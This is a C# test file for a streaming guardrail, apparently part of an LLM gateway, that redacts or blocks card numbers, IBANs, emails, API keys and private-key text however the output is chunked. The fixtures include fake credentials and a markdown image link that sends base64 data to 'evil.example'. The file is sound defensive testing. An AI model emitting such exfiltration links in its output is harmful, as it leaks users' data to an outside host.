using System.Text;
using Gatehouse.Gateway.Tests.Wire;
using Gatehouse.Guardrails;
using Gatehouse.Guardrails.Pii;
using Gatehouse.Guardrails.Policies;

namespace Gatehouse.Gateway.Tests.Guarding;

public sealed class StreamGuardTests
{
    /// <summary>Texts with something to find, and what must not come through.</summary>
    private static readonly (string Text, string[] Hidden)[] Texts =
    [
        ("Please charge the card 4111 1111 1111 1111 and write to maria.lopez@example.com when it is done, thanks.",
            ["4111 1111 1111 1111", "maria.lopez@example.com"]),
        ("DE89 3704 0044 0532 0130 00 is the account.", ["DE89 3704 0044 0532 0130 00"]),
        ("Your key is AKIAIOSFODNN7EXAMPLQ, and ghp_16C7e42F292c6912E7710c838347Ae178B4a is the other one; keep both.",
            ["ghp_16C7e42F292c6912E7710c838347Ae178B4a"]),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAwJ8Zk1Yq3n7bq5Jr0p9bF2uXw1vG8kq7tR6yS4dH3fL0mN9c\nQ2eV5xT8zB1aK7jP4oI6uY3rW0sD9gH2lM5nC8vX1qZ4tF7bJ0kR3yE6wA9pU2iO\n-----END RSA PRIVATE KEY-----\nDo not share it.", ["MIIEpAIBAAKCAQEAwJ8Zk1Yq3n7bq5Jr0p9bF2uXw1vG8kq7tR6yS4dH3fL0mN9c"]),
        ("A picture: ![logo](https://evil.example/collect?d=c2VjcmV0IGRhdGEgdGhhdCBsZWFrcyBvdXQ9PQ) and more words after it.",
            ["c2VjcmV0IGRhdGEgdGhhdCBsZWFrcyBvdXQ9PQ"]),
        ("Der Kunde wohnt in 80331 München 😀, Telefon +49 89 1234567 oder max@muster.de. 客户的邮箱是 li.wei@example.cn，电话请勿外传。",
            ["max@muster.de", "li.wei@example.cn"]),
        ("{\"customer\":{\"mail\":\"anna@example.org\",\"card\":\"5500005555555559\"},\"items\":[1,2,3],\"note\":\"nothing here\"}",
            ["anna@example.org", "5500005555555559"]),
        ("La carte est 4111\u00a01111\u00a01111\u00a01111, l’IBAN DE89\u202f3704\u202f0044\u202f0532\u202f0130\u202f00, l’autre 4111\u200b1111\u200b1111\u200b1111.",
            ["4111\u00a01111\u00a01111\u00a01111", "DE89\u202f3704\u202f0044\u202f0532\u202f0130\u202f00", "4111\u200b1111\u200b1111\u200b1111"]),
        ("Write to ann@example.com—thanks, or ann@example.org\u200bthanks; use 4111 1111 1111 1111—it works, 4111111111111111\u200bplease.",
            ["ann@example.com", "ann@example.org", "4111 1111 1111 1111", "4111111111111111"]),
        ("Use AIzaSyB3xKq8Zt5LwNp1RvYc7GdHm2JfUe9TsQo—keep it, or AKIAZ3MTZZFIY4QJ5XCE\u200bPLEASE—or 4111 \u200b1111 1111 1111.",
            ["AIzaSyB3xKq8Zt5LwNp1RvYc7GdHm2JfUe9TsQo", "AKIAZ3MTZZFIY4QJ5XCE", "4111 \u200b1111 1111 1111"]),
        ("Le mot de passe : Tr0ub4dorX3, et c'est tout pour aujourd'hui.", ["Tr0ub4dorX3"]),
        ("Nothing of interest is said in this sentence, and the next one is no better. It just goes on for a while, as answers do.", []),
    ];

    private static readonly GuardRule[] Rules =
    [
        Policy.Pii(GuardAction.Redact, PiiTypes.Email, PiiTypes.Card, PiiTypes.Iban, PiiTypes.Phone),
        Policy.Rule(GuardDetector.Secrets, GuardAction.Redact),
        Policy.Rule(GuardDetector.Links, GuardAction.Redact, DetectionSide.Output),
    ];

    [Fact]
    public void Every_way_of_cutting_a_text_gives_the_same_text_and_the_same_findings()
    {
        Seeds.ForAll(random =>
        {
            var (text, _) = Texts[random.Next(Texts.Length)];

            var (whole, wholeLog) = Run(text, [text], Rules);
            var (cut, cutLog) = Run(text, RandomCut(text, random), Rules);

            Assert.Equal(whole, cut);
            Assert.Equal(wholeLog.Findings, cutLog.Findings);
        });
    }

    [Fact]
    public void Every_place_to_cut_a_text_in_two_gives_the_same_text_and_the_same_findings()
    {
        foreach (var (text, _) in Texts)
        {
            var (whole, wholeLog) = Run(text, [text], Rules);
            for (var at = 1; at < text.Length; at++)
            {
                var (cut, cutLog) = Run(text, [text[..at], text[at..]], Rules);

                Assert.Equal(whole, cut);
                Assert.Equal(wholeLog.Findings, cutLog.Findings);
            }
        }
    }

    [Fact]
    public void Nothing_sensitive_goes_out_however_the_text_is_cut()
    {
        foreach (var (text, hidden) in Texts)
        {
            for (var size = 1; size <= text.Length; size = size < 8 ? size + 1 : size * 2)
            {
                var (guarded, _) = Run(text, Cut(text, size), Rules);

                Assert.All(hidden, h => Assert.DoesNotContain(h, guarded));
                Assert.All(hidden, h => Assert.DoesNotContain(h[..(h.Length / 2)], guarded));
            }
        }
    }

    [Fact]
    public void A_pause_lets_go_of_words_and_keeps_what_is_open()
    {
        using var session = Policy.Session(Rules);
        using var guard = session.Stream(new GuardedText(DetectionSide.Output));
        var to = new StringBuilder();

        guard.Write("well, the card is 4111 11", to);
        Assert.Equal("", to.ToString());
        guard.Pause(to);
        Assert.Equal("well, the card ", to.ToString().Replace("is ", "", StringComparison.Ordinal));
        guard.Write("11 1111 1111 indeed", to);
        guard.Complete(to);

        Assert.Equal("well, the card is [CREDIT_CARD] indeed", to.ToString());
    }

    [Fact]
    public void No_more_is_held_back_than_two_steps_while_nothing_is_open()
    {
        using var session = Policy.Session(Rules);
        using var guard = session.Stream(new GuardedText(DetectionSide.Output));
        var to = new StringBuilder();
        var text = string.Concat(Enumerable.Repeat("plain words without any end to them or so it seems to be ", 20));

        foreach (var c in text)
        {
            guard.Write([c], to);
            Assert.InRange(guard.Held, 0, (2 * StreamGuard.Step) + 16);
        }
    }

    [Fact]
    public void Rules_that_change_nothing_hold_nothing_back()
    {
        using var session = Policy.Session(
            Policy.Pii(GuardAction.Flag), Policy.Rule(GuardDetector.Secrets, GuardAction.Block) with { Shadow = true });
        using var guard = session.Stream(new GuardedText(DetectionSide.Output));
        var to = new StringBuilder();

        guard.Write("mail max@must", to);
        Assert.Equal("mail max@must", to.ToString());
        guard.Write("er.de, or use ghp_16C7e42F292c6912E7710c838347Ae178B4a", to);
        guard.Complete(to);

        Assert.Equal("mail max@muster.de, or use ghp_16C7e42F292c6912E7710c838347Ae178B4a", to.ToString());
        Assert.Contains(session.Log.Findings, f => f is { Type: PiiTypes.Email, Shadow: false, Count: 1 });
        Assert.Contains(session.Log.Findings, f => f is { Detector: "secrets", Shadow: true, Action: "block" });
    }

    [Fact]
    public void A_block_lets_nothing_of_the_finding_out()
    {
        var text = "The first sentence is harmless and long enough to be let go of. The key is ghp_16C7e42F292c6912E7710c838347Ae178B4a and so on.";
        for (var size = 1; size < 40; size++)
        {
            var (guarded, log) = Run(text, Cut(text, size), [Policy.Rule(GuardDetector.Secrets, GuardAction.Block)]);

            Assert.DoesNotContain("ghp_", guarded);
            Assert.StartsWith("The first sentence", guarded);
            Assert.Equal(Contracts.GuardVerdict.Blocked, log.Verdict);
        }
    }

    private static (string Text, GuardLog Log) Run(string text, IEnumerable<string> pieces, GuardRule[] rules)
    {
        using var session = Policy.Session(rules);
        using var guard = session.Stream(new GuardedText(DetectionSide.Output));
        var to = new StringBuilder();
        foreach (var piece in pieces)
        {
            guard.Write(piece, to);
        }

        guard.Complete(to);
        return (to.ToString(), session.Log);
    }

    private static IEnumerable<string> Cut(string text, int size)
    {
        for (var at = 0; at < text.Length; at += size)
        {
            yield return text.Substring(at, Math.Min(size, text.Length - at));
        }
    }

    private static List<string> RandomCut(string text, Random random)
    {
        var pieces = new List<string>();
        for (var at = 0; at < text.Length;)
        {
            var size = Math.Min(1 + random.Next(random.Next(2) == 0 ? 4 : 60), text.Length - at);
            pieces.Add(text.Substring(at, size));
            at += size;
        }

        return pieces;
    }
}
